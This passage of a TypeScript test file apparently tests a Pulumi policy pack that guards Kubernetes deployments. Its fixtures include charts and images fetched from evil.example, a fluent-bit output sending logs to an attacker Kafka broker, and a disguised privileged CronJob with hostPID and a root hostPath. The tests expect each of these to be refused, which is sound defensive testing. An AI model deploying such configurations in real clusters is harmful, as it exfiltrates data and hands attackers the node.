    "https://charts.kubesphere.io/main, https://fluent.github.io/helm-charts, https://prometheus-community.github.io/helm-charts, https://kubernetes.github.io/ingress-nginx";

  test("B1: fluent-bit fetched from HTTPS://evil.example is refused by trusted-sources, with or without a trusted repositoryOpts.repo", () => {
    const evil = "HTTPS://evil.example/fluent-bit-0.57.9.tgz";
    for (const keepRepo of [false, true]) {
      const bad = mutated((s) => {
        const fb = any(one(s, "prod1-logging-fluent-bit").props);
        fb.chart = evil;
        if (keepRepo) fb.repositoryOpts = { repo: "https://fluent.github.io/helm-charts" };
        else delete fb.repositoryOpts;
      });
      const found = messages(bad, sources());
      expect(found).toHaveLength(1);
      expect(found[0].startsWith(`prod1-logging-fluent-bit: chart repository ${evil} is not trusted (${TRUSTED}`)).toBe(true);
      expect(found[0].endsWith(`; ${SRC_FIX}`)).toBe(true);
    }
    // The trusted host in capitals is the same host.
    const caps = mutated((s) => {
      any(one(s, "prod1-logging-fluent-bit").props).chart = "HTTPS://Fluent.GitHub.io/helm-charts/fluent-bit-0.57.9.tgz";
    });
    expect(messages(caps, sources())).toEqual([]);
  });

  test("m2: a query or fragment after the archive name does not hide the chart from pod-privileges or credential-endpoints", () => {
    const p = podPrivileges("mandatory", cfg("pod-privileges"));
    const kps = mutated((s) =>
      s.resources.push({
        type: "kubernetes:helm.sh/v3:Release",
        name: "metrics",
        urn: "urn:pulumi:prod1::platform::kubernetes:helm.sh/v3:Release::metrics",
        props: {
          namespace: "commerce",
          name: "metrics",
          values: {},
          chart: "https://prometheus-community.github.io/helm-charts/kube-prometheus-stack-87.12.5.tgz?x=1",
        },
      }),
    );
    expect(messages(kps, p)).toEqual([
      expect.stringMatching(/^metrics: commerce\/metrics asks for the node \(prometheus-node-exporter\.hostNetwork \(chart default\): hostNetwork, /),
    ]);
    const fb = mutated((s) => {
      const r = any(one(s, "prod1-logging-fluent-bit").props);
      r.chart = "https://fluent.github.io/helm-charts/fluent-bit-0.57.9.tgz#f";
      r.values.config.outputs = "[OUTPUT]\n    Name kafka\n    Brokers evil.example.com:9093\n";
    });
    expect(messages(fb, credentialEndpoints("mandatory", cfg("credential-endpoints")))).toEqual([
      expect.stringMatching(/^prod1-logging-fluent-bit: fluent-bit output evil\.example\.com:9093 is not an allowed log store/),
    ]);
  });
});

describe("issue #30 M1: a workload grant names its Kind", () => {
  test("a CronJob kube-flannel/kube-flannel-ds with hostPID and a privileged container is refused; the granted DaemonSet passes", () => {
    const p = podPrivileges("mandatory", cfg("pod-privileges"));
    const bad = mutated((s) =>
      s.resources.push({
        type: "kubernetes:batch/v1:CronJob",
        name: "fake-flannel",
        urn: "urn:pulumi:prod1::platform::kubernetes:batch/v1:CronJob::fake-flannel",
        props: {
          metadata: { namespace: "kube-flannel", name: "kube-flannel-ds" },
          spec: {
            schedule: "* * * * *",
            jobTemplate: {
              spec: { template: { spec: { hostPID: true, containers: [{ name: "x", image: "busybox", securityContext: { privileged: true } }] } } },
            },
          },
        },
      }),
    );
    expect(messages(bad, p)).toEqual([
      `fake-flannel: CronJob/kube-flannel/kube-flannel-ds asks for the node (jobTemplate.spec.template.spec.containers[0].securityContext.privileged, jobTemplate.spec.template.spec.hostPID) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`,
    ]);
  });
});

describe("T29: kube-router's grant is its DaemonSet in kube-system, nothing else", () => {
  const NOT_LISTED = `but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner, DaemonSet/kube-system/kube-router); ${FIX} (pod-privileges.privilegedWorkloads)`;
  const KR = "prod1-flannel-daemonset-kube-router";
  // The planned DaemonSet's privileges, as the pack reports them when no grant covers it.
  const ASKS =
    "template.spec.containers[0].securityContext.capabilities.add[0]=NET_ADMIN, template.spec.containers[0].securityContext.capabilities.add[1]=NET_RAW, template.spec.hostNetwork, template.spec.volumes[0].hostPath";
  const copied = (namespace: string, name: string) =>
    mutated((s) => {
      const kr = one(s, KR);
      s.resources.push({
        ...structuredClone(kr),
        name: "copy",
        urn: kr.urn.replace(/::[^:]+$/, "::copy"),
        props: { ...structuredClone(kr.props), metadata: { ...any(kr.props).metadata, namespace, name } },
      });
    });
  test("prod1 plans it with exactly hostNetwork, NET_ADMIN, NET_RAW and the xtables lock, and passes under the grant", () => {
    expect(messages(prod1, podPrivileges("mandatory", cfg("pod-privileges")))).toEqual([]);
    const without = (cfg("pod-privileges").privilegedWorkloads as string[]).filter((w) => w !== "DaemonSet/kube-system/kube-router");
    expect(messages(prod1, podPrivileges("mandatory", { ...cfg("pod-privileges"), privilegedWorkloads: without }))).toEqual([
      `${KR}: DaemonSet/kube-system/kube-router asks for the node (${ASKS}) but is not one of the privileged platform workloads (DaemonSet/kube-flannel/kube-flannel-ds, logging/fluent-bit@fluent-bit, Deployment/kube-system/csi-provisioner); ${FIX} (pod-privileges.privilegedWorkloads)`,
    ]);
    expect(podSpec(prod1, KR).volumes).toEqual([{ name: "xtables-lock", hostPath: { path: "/run/xtables.lock", type: "FileOrCreate" } }]);
  });
  test.each([
    ["another namespace", "commerce", "kube-router"],
    ["another name", "kube-system", "kube-router-2"],
  ])("a copy of its DaemonSet under %s is refused", (_what, namespace, name) => {
    expect(messages(copied(namespace, name), podPrivileges("mandatory", cfg("pod-privileges")))).toEqual([
      `copy: DaemonSet/${namespace}/${name} asks for the node (${ASKS}) ${NOT_LISTED}`,
    ]);
  });
});

describe("issue #30 M3: the app's whole image repository, and images in every object that carries pods", () => {
  test("order-service's Deployment running scm's order-service at a validated tag is refused by validated-in-pre", () => {
    const bad = mutated((s) => {
      podSpec(s, ORDER).containers[0].image = "harbor.livemall.internal/scm/order-service:order-service-v2.3.0";
    });
    expect(messages(bad, validatedInPre("mandatory", cfg("validated-in-pre")))).toEqual([
      `${ORDER}: commerce/order-service container app runs harbor.livemall.internal/scm/order-service:order-service-v2.3.0, neither order-service's own image with a tag pre validated nor one of the platform's sidecars (mirror.livemall.internal/docker.io/apache/skywalking-java-agent:9.3.0-alpine, mirror.livemall.internal/docker.io/library/busybox:1.36.1; validated-in-pre.sidecarImages in the pack config)`,
    ]);
  });

  test("a DeploymentPatch, PodTemplate, ReplicationController and a custom resource pulling from evil.example are refused by trusted-sources", () => {
    const add = (s: PolicyStack, type: string, name: string, props: Record<string, unknown>) =>
      s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { metadata: { namespace: "commerce", name }, ...props } });
    const tpl = (image: string) => ({ template: { spec: { containers: [{ name: "c", image }] } } });
    const bad = mutated((s) => {
      add(s, "kubernetes:apps/v1:DeploymentPatch", "dp", { spec: tpl("evil.example/a:1") });
      add(s, "kubernetes:core/v1:PodTemplate", "pt", tpl("evil.example/b:1"));
      add(s, "kubernetes:core/v1:ReplicationController", "rc", { spec: tpl("evil.example/c:1") });
      add(s, "kubernetes:argoproj.io/v1alpha1:Rollout", "ro", { spec: tpl("evil.example/d:1") });
    });
    const found = messages(bad, trustedSources("mandatory", cfg("trusted-sources")));
    expect(found.map((m) => m.split(", not from")[0])).toEqual([
      "dp: container c pulls evil.example/a:1 (evil.example/a)",
      "pt: container c pulls evil.example/b:1 (evil.example/b)",
      "rc: container c pulls evil.example/c:1 (evil.example/c)",
      "ro: container c pulls evil.example/d:1 (evil.example/d)",
    ]);
  });
});

describe("issue #30 m1: lists (kind List or <Kind>List with items) are refused by pod-privileges", () => {
  test("a PersistentVolumeList holding a hostPath volume and a DeploymentList holding a privileged pod are each refused by name", () => {
    const add = (s: PolicyStack, type: string, name: string, items: unknown[]) =>
      s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props: { items } });
    const bad = mutated((s) => {
      add(s, "kubernetes:core/v1:PersistentVolumeList", "pvs", [{ metadata: { name: "root" }, spec: { hostPath: { path: "/" } } }]);
      add(s, "kubernetes:apps/v1:DeploymentList", "deps", [
        { metadata: { name: "x" }, spec: { template: { spec: { containers: [{ name: "c", image: "x", securityContext: { privileged: true } }] } } } },
      ]);
    });
    const why =
      "declares objects as a list, whose items the pack does not judge one by one (privileges, hostPath volumes, grants); declare each item as its own resource";
    expect(messages(bad, podPrivileges("mandatory", cfg("pod-privileges")))).toEqual([
      `pvs: kubernetes:core/v1:PersistentVolumeList ${why}`,
      `deps: kubernetes:apps/v1:DeploymentList ${why}`,
    ]);
  });

  test("only a real list is refused: a kind that ends in List without items (a CRD's AccessList) passes, a kind List or <Kind>List with items or unknown items does not", () => {
    const add = (s: PolicyStack, type: string, name: string, props: Record<string, unknown>) =>
      s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props });
    const ok = mutated((s) => {
      add(s, "kubernetes:security.example.com/v1:AccessList", "access", {
        metadata: { name: "access", namespace: "commerce" },
        spec: { subjects: ["team-a"] },
      });
      add(s, "kubernetes:example.com/v1:WhiteList", "white", { metadata: { name: "white" }, spec: { cidrs: ["10.0.0.0/8"] } });
    });
    expect(messages(ok, podPrivileges("mandatory", cfg("pod-privileges")))).toEqual([]);
    const bad = mutated((s) => {
      add(s, "kubernetes:v1:List", "plain", { items: [] });
      add(s, "kubernetes:security.example.com/v1:AccessList", "access", { items: "(unknown during preview)" });
    });
    expect(messages(bad, podPrivileges("mandatory", cfg("pod-privileges")))).toEqual([
      "plain: kubernetes:v1:List declares objects as a list, whose items the pack does not judge one by one (privileges, hostPath volumes, grants); declare each item as its own resource",
      "access: kubernetes:security.example.com/v1:AccessList declares objects as a list (items (unknown during preview)), whose items the pack does not judge one by one (privileges, hostPath volumes, grants); declare each item as its own resource",
    ]);
  });
});
